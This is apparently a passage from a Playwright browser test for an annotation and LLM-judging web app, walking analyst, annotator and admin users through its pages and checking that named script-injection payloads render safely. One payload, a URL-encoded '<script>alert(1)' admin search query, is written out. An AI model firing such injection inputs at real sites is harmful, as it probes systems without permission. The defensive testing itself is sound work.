        rita.visit(url("judging:judge-create", slug), expect=(NAMES["template"],))
        rita.visit(url("judging:run-create", c.llm_judge_id), expect=(NAMES["dataset"],))
        rita.reset()  # choosing the dataset re-renders the form with the estimate (htmx)
        rita.page.select_option("#run-form select[name=dataset]", str(c.dataset_id))
        rita.check("run estimate", wait="#estimate-calls")
        rita.visit(url("judging:run-detail", c.run_ids[0]), expect=(NAMES["judge-review"],))
        rita.reset()  # an unreadable review's raw output, opened in place (htmx)
        rita.page.click("#run-problems a")
        rita.check("run raw output", wait="#judgment-panel #raw-output", expect=(TEXTS["mxss"],))
        for run_id in c.run_ids[1:]:
            rita.visit(url("judging:run-detail", run_id), expect=(NAMES["dataset"],))
        for judgment_id in c.judgment_ids:
            rita.visit(url("judging:judgment-detail", judgment_id))
        # metadata (docs/METADATA.md): the items' own metadata as proposals, and a model's
        # unreadable answer kept raw, on the verification and agreement pages
        metadata_dataset_snapshot(dataset=Dataset.objects.get(pk=c.dataset_id))
        unreadable = ProposalSpec(
            item_id=c.item_ids[0],
            status="parse_failed",
            raw_output=TEXTS["mxss"],
            error=NAMES["unknown-skill"],
        )
        metadata_proposals_record(
            run_id=999_999, label=NAMES["judge-review"], proposals=[unreadable]
        )
        verify = "annotation:metadata-verify-page"
        rita.visit(url(verify, c.dataset_id, query="?origin=dataset"), expect=(NAMES["skill-1"],))
        rita.visit(
            url(verify, c.dataset_id, query="?origin=run:999999"),
            expect=(TEXTS["mxss"], NAMES["judge-review"]),
        )
        rita.visit(url("analytics:metadata-agreement", c.dataset_id), expect=(NAMES["dataset"],))
        rita.visit(url("judging:template-list", slug), expect=(NAMES["template"],))
        rita.visit(
            url(
                "judging:template-detail",
                slug,
                c.template_id,
                query=f"?dataset={c.dataset_id}&response={c.all_response_id}",
            ),
            expect=(TEXTS["json-script"],),
        )
        rita.visit(url("judging:template-import", slug))
        chosen = {
            "skill": NAMES["skill-2"],
            "system": NAMES["model-b"],
            "domain": NAMES["domain-1"],
        }
        report_ready(slug, {})
        report_ready(slug, chosen)
        rita.visit(url("analytics:dashboard", slug), wait=CHARTS_DRAWN, expect=(NAMES["skill-2"],))
        rita.reset()  # every section, loaded by htmx as it is opened
        for name in SECTIONS:
            rita.page.click(f"details[data-section={name}] > summary")
            rita.page.wait_for_selector(f"[data-section-body={name}]", state="attached")
        rita.check("dashboard sections", wait=CHARTS_DRAWN, expect=(NAMES["rater-judge"],))
        for level in ("item", "system"):  # another headline, swapped in by htmx
            rita.reset()
            rita.page.click(f"a[data-level={level}]")
            rita.check(f"headline {level}", wait=f"a[data-level={level}][aria-current]")
        rita.visit(
            url("analytics:dashboard", slug, query="?inline=1"), expect=(NAMES["rater-judge"],)
        )
        rita.visit(
            url("analytics:preferences", slug),
            expect=(NAMES["model-a"], NAMES["model-b"]),
        )
        rita.reset()  # another skill's figures, swapped in by htmx
        rita.page.select_option("select[name=pref_skill]", index=0)
        rita.page.click("form.preference-skill button[type=submit]")
        rita.check("preferences skill", wait="#preference-matrix", expect=(NAMES["model-a"],))
        rita.visit(url("analytics:judge-leaderboard"), expect=(project,))
        for name in SECTIONS:  # a section on its own page
            rita.visit(url("analytics:report-section", slug, name))
        rita.visit(
            url("analytics:dashboard", slug, query="?" + urlencode(chosen)), wait=CHARTS_DRAWN
        )
        rita.visit(
            url("analytics:dashboard", slug, query="?" + urlencode({"judge": TEXTS["textarea"]})),
            expect=(TEXTS["textarea"],),
        )  # not a judge: the filter's error names it
        rita.visit(url("analytics:disagreements", slug), expect=(NAMES["model-b"],))
        chosen = {"judge": NAMES["judge-long-1"], "system": NAMES["model-a"]}
        rita.visit(
            url("analytics:disagreements", slug, query="?" + urlencode(chosen)),
            expect=(NAMES["judge-long-1"],),
        )
        rita.visit(
            url("analytics:response-scores", slug, c.all_response_id),
            expect=(TEXTS["textarea"], NAMES["rater-human-2"], NAMES["judge-long-2"]),
        )
        rita.visit(url("analytics:exports", slug), expect=(NAMES["model-a"],))
        rita.visit(url("analytics:score-import", slug), expect=(NAMES["score-file"],))
        rita.visit(url("analytics:preference-import", slug), expect=(NAMES["preference-file"],))
        for job_id in c.preference_job_ids:
            rita.visit(
                url("analytics:preference-import-job", slug, job_id),
                expect=(NAMES["preference-file"],),
            )
        # the browsable API, as a researcher opening the JSON endpoints in the browser
        apis = [
            url("annotation-api:api-project-list"),
            url("annotation-api:api-dataset-list", slug),
            url("annotation-api:api-skill-list", query=f"?project={slug}"),
            url("judging-api:judge-list", slug),
            url("judging-api:judgment-list", c.run_ids[0]),
            url("judging-api:run-scores", c.run_ids[1]),
            url("analytics-report", slug),
            url("analytics-api:disagreements", slug),
            url("analytics-api:score-import-list", slug),
            url("analytics-api:preference-import-list", slug),
            *[url("analytics-api:preference-import-job", j) for j in c.preference_job_ids],
            url("analytics-api:export-list", slug),
        ]
        for api in apis:
            rita.visit(api)

    with visitor(chromium, live_server, "alice", problems) as alice:
        alice.visit(url("annotation:home"), expect=(project,))
        alice.visit(url("annotation:my-campaigns"), expect=(NAMES["campaign"], project))
        alice.visit(
            url("annotation:annotate", c.campaign_id),
            wait="[data-skill-row]",
            expect=(NAMES["campaign"], NAMES["skill-3"], TEXTS["script"], TEXTS["textarea"]),
        )
        alice.reset()  # Submit with nothing scored: the page names the first skill left
        alice.page.click("[data-submit]")
        alice.check("annotate, nothing scored", expect=(NAMES["skill-1"],))
        alice.reset()  # scored with payload rationales; the next task arrives by htmx
        action = alice.page.get_attribute("[data-annotate-form]", "hx-post")
        for row in alice.page.query_selector_all("[data-skill-row]"):
            skill = row.get_attribute("data-skill-id")
            alice.page.check(f"input[name='score-{skill}'][value='3']")
            alice.page.fill(f"textarea[name='rationale-{skill}']", TEXTS["textarea"])
        alice.page.click("[data-submit]")
        alice.check(
            "annotate, next task",
            wait=f"() => document.querySelector('[data-annotate-form]')?.getAttribute('hx-post')"
            f" !== {json.dumps(action)}",
        )
        alice.visit(url("annotation-api:api-annotator-campaign-list"), expect=(NAMES["campaign"],))
        alice.visit(  # a pair card: two payload responses side by side, no model name
            url("annotation:annotate", c.pair_campaign_id),
            wait="[data-pair-row]",
            expect=(NAMES["campaign"], NAMES["skill-3"]),
        )
        alice.reset()  # answered with payload rationales; the next pair arrives by htmx
        action = alice.page.get_attribute("[data-pair-form]", "hx-post")
        for row in alice.page.query_selector_all("[data-pair-row]"):
            key = row.get_attribute("data-key")
            alice.page.check(f"input[name='pref-{key}'][value='tie']")
            alice.page.fill(f"textarea[name='rationale-{key}']", TEXTS["textarea"])
        alice.page.click("[data-submit]")
        alice.check(
            "annotate a pair, next pair",
            wait=f"() => document.querySelector('[data-pair-form]')?.getAttribute('hx-post')"
            f" !== {json.dumps(action)}",
        )

    with visitor(chromium, live_server, "admin", problems) as admin:
        admin.visit(url("annotation:project-detail", slug), expect=(NAMES["dataset"],))
        admin.visit(url("annotation:upload-create", slug), expect=(project,))
        admin.visit(
            url("annotation:upload-detail", c.upload_id),
            expect=(NAMES["upload-file"], NAMES["unknown-skill"], NAMES["model-a"]),
        )
        admin.visit(url("admin:index"))
        changes = [
            ("annotation", "project", c.project_id),
            ("annotation", "skill", c.skill_ids[0]),
            ("annotation", "rubric", c.rubric_id),
            ("annotation", "domain", c.domain_id),
            ("annotation", "dataset", c.dataset_id),
            ("annotation", "datasetupload", c.upload_id),
            ("annotation", "item", c.all_item_id),
            ("annotation", "response", c.all_response_id),
            ("annotation", "campaign", c.campaign_id),
            ("annotation", "assignment", None),
            ("annotation", "humanscore", c.human_score_id),
            ("annotation", "goldscore", None),
            ("judging", "prompttemplate", c.template_id),
            ("judging", "judgeconfig", c.llm_judge_id),
            ("judging", "judgerun", c.run_ids[0]),
            ("judging", "judgment", c.judgment_ids[0]),
            ("judging", "judgescore", None),
            ("analytics", "exportjob", None),
        ]
        for app, model, pk in changes:
            admin.visit(url(f"admin:{app}_{model}_changelist"))
            if pk is not None:
                admin.visit(url(f"admin:{app}_{model}_change", pk))
        admin.visit(url("admin:annotation_item_changelist", query="?q=%3Cscript%3Ealert(1)"))

    assert problems == [], "\n".join(problems)
